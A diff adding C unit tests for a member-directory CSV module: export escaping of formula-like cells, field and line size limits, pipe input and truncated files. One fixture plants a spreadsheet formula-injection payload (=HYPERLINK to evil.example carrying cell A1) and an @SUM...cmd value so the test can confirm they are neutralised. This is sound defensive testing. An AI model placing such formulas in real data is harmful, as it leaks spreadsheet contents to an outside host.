@@ -4,6 +4,7 @@
 
 #include "config.h"
 
+#include <stdio.h>
 #include <string.h>
 #include <gio/gio.h>
 #include <glib/gstdio.h>
@@ -840,6 +841,78 @@ test_export (Fixture      *f,
   g_assert_cmpstr (empty, ==, HC_MEMBER_CSV_EXPORT_HEADER "\r\n");
 }
 
+/* No exported cell starts a formula (rules.md 34), and the import reads
+ * every value back as it was. */
+static void
+test_export_formulas (Fixture      *f,
+                      gconstpointer data)
+{
+  g_autoptr (HcMember) link = hc_test_member ("0||evil@example.org|=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")|"
+                                              "@SUM(1+1)*cmd|active|manual");
+  g_autoptr (HcMember) phone = hc_test_member ("0||phone@example.org|Ann|Lee|active|manual");
+  g_autoptr (HcMember) blank = hc_test_member ("0||blank@example.org|Bo|Kay|active|manual");
+  g_autoptr (GPtrArray) members = g_ptr_array_new ();
+  g_autoptr (GPtrArray) stored = NULL;
+  g_autoptr (HcCsvReader) reader = NULL;
+  g_autoptr (HcMemberCsvImport) import = NULL;
+  g_autoptr (HcMemberCsvPreview) preview = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *text = NULL;
+  HcCsvRecord *record;
+  guint n = 0;
+
+  hc_member_set_field (phone, "title", "+33 1 23 45 67 89");
+  hc_member_set_field (phone, "department", "-5");
+  hc_member_set_field (phone, "custom.note", "'=already quoted");
+  hc_member_set_field (blank, "team", "\tTabbed");
+  hc_member_set_field (blank, "office", "\rCarriage");
+  g_ptr_array_add (members, link);
+  g_ptr_array_add (members, phone);
+  g_ptr_array_add (members, blank);
+  g_assert_true (hc_store_add_members (f->store, members, NULL, &error));
+  g_assert_no_error (error);
+  stored = hc_store_list_members (f->store, &error);
+  g_assert_no_error (error);
+
+  text = export_to_string (stored, -1, ';', &n);
+  g_assert_cmpuint (n, ==, 3);
+  g_assert_nonnull (strstr (text, "evil@example.org;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Click\"\")\";"
+                            "'@SUM(1+1)*cmd;"));
+  g_assert_nonnull (strstr (text, "phone@example.org;Ann;Lee;;'+33 1 23 45 67 89;'-5;"));
+  g_assert_nonnull (strstr (text, ";''=already quoted\r\n"));
+  g_assert_nonnull (strstr (text, "blank@example.org;Bo;Kay;;;;'\tTabbed;\"'\rCarriage\";"));
+
+  /* Every cell, read as a spreadsheet would. */
+  reader = hc_csv_reader_new_for_data (text, -1, 0);
+  while ((record = hc_csv_reader_next (reader, NULL, &error)) != NULL)
+    {
+      for (guint c = 0; c < record->n_fields; c++)
+        g_assert_false (record->fields[c][0] != '\0' && strchr ("=+-@\t\r", record->fields[c][0]) != NULL);
+      hc_csv_record_free (record);
+    }
+  g_assert_no_error (error);
+
+  import = import_data (text, -1, 0, &error);
+  g_assert_no_error (error);
+  preview = hc_member_csv_import_preview (import, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (preview->n_new, ==, 3);
+  {
+    HcMember *back_link = row_at (preview, 0)->member;
+    HcMember *back_phone = row_at (preview, 1)->member;
+    HcMember *back_blank = row_at (preview, 2)->member;
+
+    g_assert_cmpstr (hc_member_get_first_name (back_link), ==, "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")");
+    g_assert_cmpstr (hc_member_get_last_name (back_link), ==, "@SUM(1+1)*cmd");
+    g_assert_cmpstr (hc_member_get_title (back_phone), ==, "+33 1 23 45 67 89");
+    g_assert_cmpstr (hc_member_get_department (back_phone), ==, "-5");
+    g_assert_cmpstr (hc_member_get_field (back_phone, "custom.note"), ==, "'=already quoted");
+    /* The import trims spaces, tabs and line breaks around values, as ever. */
+    g_assert_cmpstr (hc_member_get_field (back_blank, "team"), ==, "Tabbed");
+    g_assert_cmpstr (hc_member_get_field (back_blank, "office"), ==, "Carriage");
+  }
+}
+
 static void
 compare_members (HcMember *a,
                  HcMember *b)
@@ -954,11 +1027,16 @@ test_import_many (Fixture      *f,
   g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 10001);
   preview = hc_member_csv_import_preview (import, NULL, &error);
   g_assert_no_error (error);
+  g_assert_cmpuint (preview->n_lines, ==, 10001);
   g_assert_cmpuint (preview->n_new, ==, 10000);
   g_assert_cmpuint (preview->n_rejected, ==, 1);
-  g_assert_cmpuint (row_at (preview, 10000)->line, ==, 20002);
-  g_assert_cmpuint (row_at (preview, 10000)->duplicate_of, ==, 2);
-  g_assert_cmpuint (row_at (preview, 9999)->line, ==, 20000);
+  /* It shows the first new members and every rejected line, not all. */
+  g_assert_cmpuint (preview->rows->len, ==, HC_MEMBER_CSV_PREVIEW_LINES + 1);
+  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES)->line, ==, 20002);
+  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES)->duplicate_of, ==, 2);
+  g_assert_cmpuint (row_at (preview, HC_MEMBER_CSV_PREVIEW_LINES - 1)->line, ==, 2 * HC_MEMBER_CSV_PREVIEW_LINES);
+  g_assert_nonnull (row_at (preview, 5)->manager);
+  g_assert_cmpstr (hc_member_get_email (row_at (preview, 5)->manager), ==, "person4@example.org");
 
   g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
   g_assert_error (error, HC_ERROR, HC_ERROR_PARSE);
@@ -981,6 +1059,124 @@ test_import_many (Fixture      *f,
       g_assert_cmpint (hc_member_get_manager_id (member), ==,
                        hc_member_get_id (find_by_email (stored, manager_email)));
     }
+}
+
+/* A field or a line over the reader's limits fails the import, naming the
+ * line and the limit (rules.md 35). */
+static void
+test_import_limits (void)
+{
+  g_autoptr (GString) big_field = g_string_new ("email,first_name\na@example.org,A\nb@example.org,");
+  g_autoptr (GString) big_line = g_string_new ("email,first_name,last_name,title,department,team,office,"
+                                               "custom.a,custom.b,custom.c,custom.d,custom.e,custom.f\r\n");
+  g_autoptr (HcMemberCsvImport) import = NULL;
+  g_autoptr (GError) error = NULL;
+
+  for (guint i = 0; i < 150000; i++)
+    g_string_append_c (big_field, 'b');
+  g_string_append (big_field, "\nc@example.org,C\n");
+  import = import_data (big_field->str, big_field->len, 0, &error);
+  g_assert_null (import);
+  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_FIELD_TOO_LONG);
+  g_assert_true (g_str_has_prefix (error->message, "Line 3: a field is longer than 100.0\u00a0kB"));
+  g_clear_error (&error);
+
+  g_string_append (big_line, "a@example.org");
+  for (guint f = 1; f < 13; f++)
+    {
+      g_string_append_c (big_line, ',');
+      for (guint i = 0; i < 90000; i++)
+        g_string_append_c (big_line, 'x');
+    }
+  g_string_append (big_line, "\r\n");
+  import = import_data (big_line->str, big_line->len, 0, &error);
+  g_assert_null (import);
+  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_LINE_TOO_LONG);
+  g_assert_true (g_str_has_prefix (error->message, "Line 2: the line is longer than 1.0\u00a0MB"));
+}
+
+/* A stream that cannot seek (a pipe) is copied aside: the preview and the
+ * apply still read it again. */
+static void
+test_import_unseekable (Fixture      *f,
+                        gconstpointer data)
+{
+  static const char text[] = "E-mail;Prénom;Manager\r\nana@example.org;Ana;\r\nbob@example.org;Bob;ana@example.org\r\n";
+  g_autoptr (GInputStream) memory = g_memory_input_stream_new_from_data (text, -1, NULL);
+  g_autoptr (GConverter) converter = G_CONVERTER (g_charset_converter_new ("UTF-8", "UTF-8", NULL));
+  g_autoptr (GInputStream) stream = g_converter_input_stream_new (memory, converter);
+  g_autoptr (HcMemberCsvImport) import = NULL;
+  g_autoptr (HcMemberCsvPreview) preview = NULL;
+  g_autoptr (GPtrArray) stored = NULL;
+  g_autoptr (GError) error = NULL;
+  guint n = 0;
+
+  g_assert_false (G_IS_SEEKABLE (stream) && g_seekable_can_seek (G_SEEKABLE (stream)));
+  import = hc_member_csv_import_new_from_stream (stream, 0, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (hc_member_csv_import_get_n_records (import), ==, 2);
+  preview = hc_member_csv_import_preview (import, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (preview->n_new, ==, 2);
+  g_assert_true (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 2);
+  stored = hc_store_list_members (f->store, &error);
+  g_assert_cmpint (hc_member_get_manager_id (find_by_email (stored, "bob@example.org")), ==,
+                   hc_member_get_id (find_by_email (stored, "ana@example.org")));
+  /* The rows shown have their ids and managers, as stored. */
+  g_assert_cmpint (hc_member_get_id (row_at (preview, 1)->member), ==,
+                   hc_member_get_id (find_by_email (stored, "bob@example.org")));
+  g_assert_cmpint (hc_member_get_manager_id (row_at (preview, 1)->member), ==,
+                   hc_member_get_id (find_by_email (stored, "ana@example.org")));
+}
+
+/* A file cut in the middle of a quoted field: a clear error, nothing
+ * imported; a file that changes between the preview and the apply: nothing
+ * imported either. */
+static void
+test_import_truncated (Fixture      *f,
+                       gconstpointer data)
+{
+  g_autoptr (GString) text = g_string_new ("email,first_name,title\n");
+  g_autofree char *path = g_build_filename (f->dir, "members.csv", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  g_autoptr (GFileInputStream) stream = NULL;
+  g_autoptr (HcMemberCsvImport) import = NULL;
+  g_autoptr (HcMemberCsvPreview) preview = NULL;
+  g_autoptr (GError) error = NULL;
+  guint n = 0;
+  FILE *out;
+
+  for (guint i = 0; i < 3000; i++)
+    g_string_append_printf (text, "p%u@example.org,P %u,\"Dev, level %u\"\n", i, i, i % 4);
+  g_string_append (text, "last@example.org,Last,\"Dev, lev");
+  import = import_data (text->str, text->len, 0, &error);
+  g_assert_null (import);
+  g_assert_error (error, HC_CSV_ERROR, HC_CSV_ERROR_UNTERMINATED_QUOTE);
+  g_assert_cmpstr (error->message, ==, "Line 3002: a quoted field starts here and its closing quote is missing");
+  g_clear_error (&error);
+
+  /* Whole, then cut once the preview is made. */
+  g_string_append (text, "el 9\"\n");
+  g_assert_true (g_file_set_contents (path, text->str, text->len, &error));
+  stream = g_file_read (file, NULL, &error);
+  g_assert_no_error (error);
+  import = hc_member_csv_import_new_from_stream (G_INPUT_STREAM (stream), 0, NULL, &error);
+  g_assert_no_error (error);
+  preview = hc_member_csv_import_preview (import, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (preview->n_new, ==, 3001);
+  out = fopen (path, "w");  /* the same file, cut: the open stream sees it */
+  g_assert_nonnull (out);
+  fwrite (text->str, 1, text->len / 2, out);
+  fclose (out);
+  g_assert_false (hc_member_csv_preview_apply (preview, f->store, FALSE, &n, &error));
+  g_assert_nonnull (error);
+  g_test_message ("%s", error->message);
+  g_assert_cmpuint (n, ==, 0);
+  g_assert_cmpuint (hc_store_count_members (f->store, -1), ==, 0);
+  g_assert_cmpint (hc_member_get_id (row_at (preview, 0)->member), ==, 0);
 }
 
 /* hc_store_add_members: all or nothing. */
@@ -1042,6 +1238,7 @@ main (int    argc,
   g_test_add_func ("/member-csv/import/emails", test_import_emails);
   g_test_add_func ("/member-csv/import/values", test_import_values);
   g_test_add_func ("/member-csv/import/fatal", test_import_fatal);
+  g_test_add_func ("/member-csv/import/limits", test_import_limits);
 #define ADD(path, func) g_test_add ((path), Fixture, NULL, fixture_set_up, (func), fixture_tear_down)
   ADD ("/member-csv/import/english", test_import_english);
   ADD ("/member-csv/import/french", test_import_french);
@@ -1050,7 +1247,10 @@ main (int    argc,
   ADD ("/member-csv/import/managers", test_import_managers);
   ADD ("/member-csv/import/header-only", test_import_header_only);
   ADD ("/member-csv/import/10000-rows", test_import_many);
+  ADD ("/member-csv/import/unseekable", test_import_unseekable);
+  ADD ("/member-csv/import/truncated", test_import_truncated);
   ADD ("/member-csv/export", test_export);
+  ADD ("/member-csv/export/formulas", test_export_formulas);
   ADD ("/member-csv/store/add-members-rollback", test_store_add_members_rollback);
 #undef ADD
   g_test_add_data_func ("/member-csv/round-trip/comma", GINT_TO_POINTER (','), test_round_trip);
